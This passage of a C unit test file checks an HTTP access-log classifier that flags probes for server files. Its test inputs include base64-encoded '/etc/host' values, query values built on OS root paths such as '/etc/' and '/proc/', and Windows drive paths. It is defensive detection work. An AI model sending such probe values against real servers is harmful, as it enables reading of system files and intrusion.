        ao_record_t rec = record_of(&r);
        if (((ao_classify(c, &rec) & T) != 0) != (bad <= 2))
          fail_msg("\"%s\" (%d bytes not printable at %zu): wrong verdict",
                   target, bad, at);
      }
    }
  }
  /* the shortest value looked at (12 digits: "/etc/host"), as the whole
   * parameter and after a name */
  static const char *const shortest[] = {"/x?L2V0Yy9ob3N0", "/x?f=L2V0Yy9ob3N0",
                                         "/x?a=1&L2V0Yy9ob3N0&b=2"};
  for (size_t k = 0; k < AO_ARRAY_SIZE(shortest); k++) {
    row_t r = {"GET", shortest[k], NULL, NULL, 200, 0, ""};
    ao_record_t rec = record_of(&r);
    if (!(ao_classify(c, &rec) & T))
      fail_msg("\"%s\": not found", shortest[k]);
  }
  print_message("%zu broken values checked\n", checked);
  ao_classifier_destroy(c);
}

/* The OS roots (os_path()) as a query value and as the request path:
 * found for every root, in every value of the query; not for any root
 * with one byte changed (the inline compare of bytes 2 to 4 and the
 * value's first byte turn most away), nor for web assets under a root;
 * drives ("c:\", "/c:/") found, one-letter schemes ("p://") not. The
 * roots are those of os_path() in ao_classify.c. */
static void test_os_roots(void **state) {
  (void)state;
  static const char *const roots[] = {
      "/boot/",          "/etc/",         "/opt/",         "/proc/",
      "/program files/", "/programdata/", "/private/etc/", "/private/var/",
      "/root/",          "/sys/",         "/usr/",         "/var/",
      "/volumes/",       "/windows/",     "/winnt/"};
  ao_classifier_t *c = new_classifier(8192);
  ao_classifier_set_memo(c, 0);
  char v[96], target[256];
  size_t checked = 0;
  for (size_t k = 0; k < AO_ARRAY_SIZE(roots); k++) {
    size_t n = strlen(roots[k]);
    for (size_t pos = 0; pos <= n; pos++) {
      for (int ch = 0; ch < 3; ch++) {
        snprintf(v, sizeof(v), "%sconfig", roots[k]);
        if (pos < n)
          v[pos] = "qz-"[ch]; /* changed; pos == n: the root as it is */
        int want = pos == n;
        for (size_t r = 0; r < AO_ARRAY_SIZE(roots); r++)
          want |= strncmp(v, roots[r], strlen(roots[r])) == 0;
        /* a space in a root is "%20" in a request */
        char enc[128];
        size_t o = 0;
        for (const char *q = v; *q; q++)
          o += (size_t)(*q == ' ' ? snprintf(enc + o, 4, "%%20")
                                  : snprintf(enc + o, 2, "%c", *q));
        /* the value alone, and as the last of three */
        snprintf(target, sizeof(target), "/p?f=%s", enc);
        row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
        ao_record_t rec = record_of(&r);
        if (((ao_classify(c, &rec) & T) != 0) != want)
          fail_msg("\"%s\": wrong verdict", target);
        snprintf(target, sizeof(target), "/p?a=1&b=x&f=%s", enc);
        rec = record_of(&r);
        rec.target = sl(target);
        if (((ao_classify(c, &rec) & T) != 0) != want)
          fail_msg("\"%s\": wrong verdict", target);
        /* the request path */
        rec.target = sl(enc);
        if (((ao_classify(c, &rec) & T) != 0) != want)
          fail_msg("path \"%s\": wrong verdict", enc);
        checked += 3;
        if (pos == n)
          break;
      }
    }
    /* a web asset under the root is not the server's file */
    snprintf(target, sizeof(target), "/p?f=%sdesigns/site.css", roots[k]);
    row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
    ao_record_t rec = record_of(&r);
    if (strchr(roots[k], ' ') == NULL && (ao_classify(c, &rec) & T))
      fail_msg("\"%s\": found", target);
  }
  static const struct {
    const char *value;
    int want;
  } drives[] = {{"c:%5Cwindows", 1}, {"d:/data", 1}, {"/c:/inetpub", 1},
                {"p://x", 0},        {"c:x", 0},     {"a:", 0},
                {"x/c:/", 0},        {"1:%5C", 0}};
  for (size_t k = 0; k < AO_ARRAY_SIZE(drives); k++) {
    snprintf(target, sizeof(target), "/p?a=b&f=%s", drives[k].value);
    row_t r = {"GET", target, NULL, NULL, 200, 0, ""};
    ao_record_t rec = record_of(&r);
    if (((ao_classify(c, &rec) & T) != 0) != drives[k].want)
      fail_msg("\"%s\": wrong verdict", target);
  }
  print_message("%zu values checked\n", checked);
  ao_classifier_destroy(c);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_table),
      cmocka_unit_test(test_memo_is_transparent),
      cmocka_unit_test(test_path_memo),
      cmocka_unit_test(test_command_prefix_filter),
      cmocka_unit_test(test_value_prefix_filter),
      cmocka_unit_test(test_js_assign_filter),
      cmocka_unit_test(test_handler_prefix),
      cmocka_unit_test(test_base64_values),
      cmocka_unit_test(test_os_roots),
      cmocka_unit_test(test_create_errors),
      cmocka_unit_test(test_separate_query),
      cmocka_unit_test(test_max_line_truncation),
      cmocka_unit_test(test_binary_fields),
      cmocka_unit_test(test_empty_and_not_http),
      cmocka_unit_test(test_hostile_repetition_is_linear),
      cmocka_unit_test(test_elastic_log),
      cmocka_unit_test(test_hackers_log),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
